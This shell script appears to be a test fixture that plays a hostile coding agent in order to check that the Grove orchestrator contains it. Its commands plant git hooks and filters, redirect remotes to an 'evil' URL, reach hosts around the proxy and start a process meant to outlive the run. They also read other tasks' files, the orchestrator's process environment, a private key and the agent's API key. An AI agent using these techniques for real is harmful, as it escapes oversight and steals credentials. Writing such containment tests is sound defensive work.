#!/bin/sh
# A HOSTILE AGENT, for HostileAgentFlowIT: it does what an agent that follows a malicious issue would try, and prints
# whatever it finds, so that it ends up in the PR body and the check run. The test fills in the @PLACEHOLDERS@.
# Task 1 attacks Grove's git from outside the clone (~/.gitconfig, its worktree's .git file, its log); task 2, which
# runs after task 1 (overlapping paths), tampers with the shared clone (hooks, remote URL, a filter).
N="$GROVE_TASK_NUMBER"
R="$PWD/attack-report.txt"
say() { printf '%s: %s\n' "$1" "$2" | tee -a "$R"; }
cat > /dev/null
common=$(sed -n 's/^gitdir: //p' .git | sed 's#/worktrees/[^/]*$##')
taskdir=$(dirname "$GROVE_PROMPT_FILE")

# its log, made a link to the App's key, for the dashboard to show
ln -sf "@KEY@" "$taskdir/agent.log" 2>/dev/null && say LOGLINK made || say LOGLINK FAILED
# outside its worktree
echo "task $N was here" > "@OUTSIDE@/task-$N" 2>/dev/null && say OUTSIDE written || say OUTSIDE FAILED
# other tasks' worktrees
others=""
for d in "$PWD"/../*/; do
  [ "$(cd "$d" 2>/dev/null && pwd)" = "$PWD" ] && continue
  c=$(cat "$d"attack-report.txt "$d"docs/*.md 2>/dev/null) && others="$others$c"
done
say OTHERS "${others:-FAILED}"
# a host that is not on its allow list, through the proxy and around it
got=$( (curl -s -m 5 "@UNLISTED_URL@"; curl -s -m 5 --noproxy '*' "@UNLISTED_URL@") 2>/dev/null)
case "$got" in *reached*) say NETWORK "$got" ;; *) say NETWORK FAILED ;; esac
# a double-forked child in a session of its own, to outlive the run
( setsid sh -c 'sleep @SURVIVOR@' </dev/null >/dev/null 2>&1 & ) && say SURVIVE started || say SURVIVE FAILED

if [ "$N" = 1 ]; then
  printf '[url "%s"]\n\tinsteadOf = %s\n\tpushInsteadOf = %s\n' "@EVIL_URL@" "@ORIGIN_URL@" "@ORIGIN_URL@" \
    >> "$HOME/.gitconfig" && say GITCONFIG appended || say GITCONFIG FAILED
  mkdir -p docs && echo "notes" > docs/notes.md
  printf 'gitdir: %s\n' "@DECOY@/.git" > .git && say DOTGIT replaced || say DOTGIT FAILED
else
  ok=planted
  for h in pre-commit commit-msg post-commit pre-push reference-transaction post-checkout post-index-change; do
    printf '#!/bin/sh\necho "%s ran" >> "@MARKS@/hooks"\nenv >> "@MARKS@/hook-env"\n' "$h" > "$common/hooks/$h" \
      && chmod +x "$common/hooks/$h" || ok=FAILED
  done
  say HOOKS "$ok"
  git config --file "$common/config" remote.origin.url "@EVIL_URL@" 2>/dev/null && say REMOTE changed || say REMOTE FAILED
  git config --file "$common/config" filter.evil.clean "@PAYLOAD@" 2>/dev/null && printf '* filter=evil\n' > .gitattributes \
    && say FILTER planted || say FILTER FAILED
  mkdir -p docs && echo "more notes" > docs/more.md
fi

# what it found, last, so that it is in the output's last lines. Grove is the nearest ancestor running grove.jar.
found=FAILED
p=$$
while [ "${p:-0}" -gt 1 ]; do
  if tr '\0' ' ' < "/proc/$p/cmdline" 2>/dev/null | grep -q 'grove.jar serve'; then
    e=$(tr '\0' '\n' < "/proc/$p/environ" 2>/dev/null) && [ -n "$e" ] && found="$e"
    break
  fi
  p=$(awk '/^PPid:/ {print $2}' "/proc/$p/status" 2>/dev/null)
done
say ENVIRON "$found"
k=$(cat "@KEY@" 2>/dev/null) || k=""
say KEY "${k:-FAILED}"
# its own API key, to its output only (Grove posts the last lines, redacted); a file holding it would not be pushed
printf 'APIKEY: %s\n' "${ANTHROPIC_API_KEY:-none}"
exit 0
